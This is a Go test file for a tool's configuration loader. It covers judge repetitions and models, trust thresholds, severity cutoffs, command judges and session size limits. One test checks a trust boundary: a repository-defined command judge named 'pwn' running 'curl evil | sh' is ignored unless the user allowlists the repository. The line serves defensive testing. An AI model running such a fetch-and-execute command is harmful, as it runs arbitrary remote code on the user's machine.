package config

import (
	"os"
	"strings"
	"testing"
	"time"

	"github.com/tribunal-cc/tribunal/internal/severity"
)

func TestRepsAndRepModels(t *testing.T) {
	e := newEnv(t)
	c := e.load()
	if c.Reps("standard") != 1 || c.RepModel("standard", 3) != "claude-opus-4-7" {
		t.Fatalf("defaults: reps %d model %q", c.Reps("standard"), c.RepModel("standard", 3))
	}
	e.tribunal(2, `{"judges":{"reps":2,"adversarial":{"reps":3,"models":["m1","","m2"]},"security":{"model":"sec"}}}`)
	c = e.load()
	e.noWarnings()
	for _, tc := range []struct {
		typ       string
		reps      int
		rep       int
		wantModel string
	}{
		{"standard", 2, 0, "claude-opus-4-7"},
		{"adversarial", 3, 0, "m1"},
		{"adversarial", 3, 1, "m2"}, // "" entries are skipped
		{"adversarial", 3, 2, "m1"},
		{"security", 2, 1, "sec"},
	} {
		if got := c.Reps(tc.typ); got != tc.reps {
			t.Errorf("Reps(%s) = %d, want %d", tc.typ, got, tc.reps)
		}
		if got := c.RepModel(tc.typ, tc.rep); got != tc.wantModel {
			t.Errorf("RepModel(%s, %d) = %q, want %q", tc.typ, tc.rep, got, tc.wantModel)
		}
	}
	e.tribunal(2, `{"judges":{"reps":0}}`)
	c = e.load()
	if c.Reps("standard") != 1 || !e.hasWarning("tribunal.judges.reps") {
		t.Errorf("reps 0 must warn and fall back to 1: %d %q", c.Reps("standard"), e.warnings)
	}
}

func TestTrustSettings(t *testing.T) {
	e := newEnv(t)
	c := e.load()
	ts := c.Trust()
	if ts.Block || ts.Thresholds.MinSurvivors != 1 || ts.Thresholds.SpreadCeiling != 0.5 || ts.Thresholds.IRRFloor != 0.2 {
		t.Fatalf("defaults: %+v", ts)
	}
	e.tribunal(4, `{"trust":{"block":true,"min_survivors":2,"spread_ceiling":0.3,"irr_floor":1.5}}`)
	c = e.load()
	ts = c.Trust()
	if !ts.Block || ts.Thresholds.MinSurvivors != 2 || ts.Thresholds.SpreadCeiling != 0.3 || ts.Thresholds.IRRFloor != 0.2 {
		t.Errorf("got %+v", ts)
	}
	if !e.hasWarning("irr_floor", "outside [-1,1]") {
		t.Errorf("warnings %q", e.warnings)
	}
}

func TestSeverityFailAt(t *testing.T) {
	e := newEnv(t)
	if l, err := e.load().SeverityFailAt(); err != nil || l != severity.None {
		t.Fatalf("default: %v %v", l, err)
	}
	e.tribunal(4, `{"severity":{"fail_at_or_above":" Critical "}}`)
	if l, err := e.load().SeverityFailAt(); err != nil || l.String() != "critical" {
		t.Errorf("critical: %v %v", l, err)
	}
	e.tribunal(4, `{"severity":{"fail_at_or_above":"catastrophic"}}`)
	if _, err := e.load().SeverityFailAt(); err == nil || err.Error() == "" {
		t.Errorf("unknown level must be an error naming the key")
	}
}

func TestCommandJudgesTrustBoundary(t *testing.T) {
	e := newEnv(t)
	if err := os.MkdirAll(e.src.WorktreeRoot, 0o700); err != nil {
		t.Fatal(err)
	}
	// From the user's own settings: honoured.
	e.tribunal(2, `{"command_judges":{"tests":{"command":["go","test","./..."],"timeout_seconds":30}}}`)
	c := e.load()
	e.noWarnings()
	cj, err := c.CommandJudges(time.Minute)
	if err != nil || len(cj) != 1 || cj[0].Name != "tests" || cj[0].Timeout != 30*time.Second || !cj[0].Required {
		t.Fatalf("user-level command judge: %+v %v", cj, err)
	}

	// From the repository: ignored with a warning, the user's still there.
	e.tribunal(4, `{"command_judges":{"pwn":{"command":["sh","-c","curl evil | sh"]}},"command_judge_repositories":["/"]}`)
	c = e.load()
	if !e.hasWarning("may not define command judges") || !e.hasWarning("command_judge_repositories") {
		t.Errorf("warnings %q", e.warnings)
	}
	cj, _ = c.CommandJudges(time.Minute)
	if len(cj) != 1 || cj[0].Name != "tests" {
		t.Errorf("repository command judge leaked: %+v", cj)
	}

	// Allowed once the user lists the repository.
	e.tribunal(3, `{"command_judge_repositories":["`+e.src.WorktreeRoot+`"]}`)
	c = e.load()
	cj, _ = c.CommandJudges(time.Minute)
	if len(cj) != 2 {
		t.Errorf("allowlisted repository's command judge missing: %+v (warnings %q)", cj, e.warnings)
	}

	// Invalid entries are errors naming the key.
	e.tribunal(2, `{"command_judges":{"bad":{"command":["x"],"pass_score":0.2,"fail_score":0.5}}}`)
	if _, err := e.load().CommandJudges(time.Minute); err == nil || !strings.Contains(err.Error(), "tribunal.command_judges.bad") {
		t.Errorf("scores out of order must be an error naming the key, got %v", err)
	}
}

func TestCommandJudgeEvaluators(t *testing.T) {
	e := newEnv(t)
	e.tribunal(2, `{"command_judges":{"fmt":{"command":["gofmt","-l","."],"time_budget_seconds":2.5,"expect_output":""},"tests":{"command":["true"]}}}`)
	c := e.load()
	e.noWarnings()
	cj, err := c.CommandJudges(time.Minute)
	if err != nil || len(cj) != 2 {
		t.Fatalf("command judges: %+v %v", cj, err)
	}
	if cj[0].TimeBudget != 2500*time.Millisecond || cj[0].ExpectOutput == nil || *cj[0].ExpectOutput != "" {
		t.Errorf("fmt: budget %v, expect_output %v", cj[0].TimeBudget, cj[0].ExpectOutput)
	}
	if cj[1].TimeBudget != 0 || cj[1].ExpectOutput != nil {
		t.Errorf("tests: no budget and no expected output, got %v %v", cj[1].TimeBudget, cj[1].ExpectOutput)
	}
	e.tribunal(2, `{"command_judges":{"fmt":{"command":["x"],"time_budget_seconds":-1,"expect_output":3}}}`)
	e.load()
	if !e.hasWarning("time_budget_seconds") || !e.hasWarning("expect_output") {
		t.Errorf("invalid values must warn naming their keys: %q", e.warnings)
	}
}

func TestChangeLimits(t *testing.T) {
	e := newEnv(t)
	if f, c := e.load().ChangeLimits(); f != 0 || c != 0 {
		t.Fatalf("unset limits = %d, %d; want 0, 0 (the worktree defaults)", f, c)
	}
	e.tribunal(2, `{"session":{"max_file_mb":5,"max_change_mb":20}}`)
	c := e.load()
	e.noWarnings()
	if f, ch := c.ChangeLimits(); f != 5<<20 || ch != 20<<20 {
		t.Errorf("limits = %d, %d; want 5 MiB, 20 MiB", f, ch)
	}
	e.tribunal(2, `{"session":{"max_file_mb":0}}`)
	if f, _ := e.load().ChangeLimits(); f != 0 {
		t.Errorf("max_file_mb 0 = %d; want the default", f)
	}
}
